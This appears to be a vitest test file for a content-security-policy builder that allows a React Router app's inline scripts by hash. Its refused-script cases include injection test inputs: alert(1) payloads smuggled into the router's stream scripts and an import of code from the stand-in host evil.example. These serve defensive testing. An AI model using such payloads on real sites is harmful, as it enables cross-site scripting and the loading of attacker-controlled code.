// @vitest-environment node
import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { pagePolicy } from "./content-security-policy.ts";

const context =
  'window.__reactRouterContext = {"basename":"/","future":{"unstable_optimizeDeps":false},"routeDiscovery":{"mode":"initial"},"ssr":true,"isSpaMode":false};' +
  "window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());";
const modules =
  'import "/assets/manifest-1a.js";\nimport * as route0 from "/assets/root-2_b.js";\n  \n  window.__reactRouterRouteModules = {"root":route0};\n\nimport("/assets/entry.client-3c.js");';
const enqueue = 'window.__reactRouterContext.streamController.enqueue("[{\\"_1\\":2}]\\n");';
const own = [context, modules, enqueue, "window.__reactRouterContext.streamController.close();"];

const settings = { secure: true, imageHosts: [] };
const page = (...scripts: readonly string[]) => `<!DOCTYPE html><body>${scripts.map((code) => `<script>${code}</script>`).join("")}</body>`;
const hash = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

test("the router's own scripts are allowed by their hashes", () => {
  const { header, refused } = pagePolicy(page(...own), settings);
  for (const code of own) expect(header).toContain(hash(code));
  expect(refused).toEqual([]);
});

test.each([
  "alert(1)",
  `${enqueue}alert(1)`,
  'window.__reactRouterContext.streamController.enqueue("");alert("");',
  'window.__reactRouterContext.streamController.enqueue(""+alert(1)+"");',
  "window.__reactRouterContext = {};alert(1);window.__reactRouterContext.stream = new ReadableStream({});",
  'import "https://evil.example/x.js";\n  window.__reactRouterRouteModules = {};\n\nimport("/assets/entry.js");',
  'import "/assets/a.js"; alert(1);\n  window.__reactRouterRouteModules = {};\n\nimport("/assets/entry.js");',
])("a script that is not the router's gets no hash: %s", (code) => {
  const { header, refused } = pagePolicy(page(code), settings);
  expect(header).not.toContain(hash(code));
  expect(refused).toEqual([code]);
});

test("data blocks and files need no hash", () => {
  const html =
    '<script type="application/json" id="a">{"b":1}</script><script type="application/ld+json">{}</script><script src="/assets/a.js"></script>';
  expect(pagePolicy(html, settings).header).toContain("script-src 'self';");
});

test("nothing may frame, post elsewhere, or come from elsewhere", () => {
  const { header } = pagePolicy("", { secure: true, imageHosts: ["cdn.example"] });
  expect(header).toContain("default-src 'self'");
  expect(header).toContain("object-src 'none'");
  expect(header).toContain("base-uri 'none'");
  expect(header).toContain("frame-ancestors 'none'");
  expect(header).toContain("form-action 'self'");
  expect(header).toContain("img-src 'self' data: https://cdn.example");
  expect(header).toContain("upgrade-insecure-requests");
  expect(pagePolicy("", { secure: false, imageHosts: [] }).header).not.toContain("upgrade-insecure-requests");
});
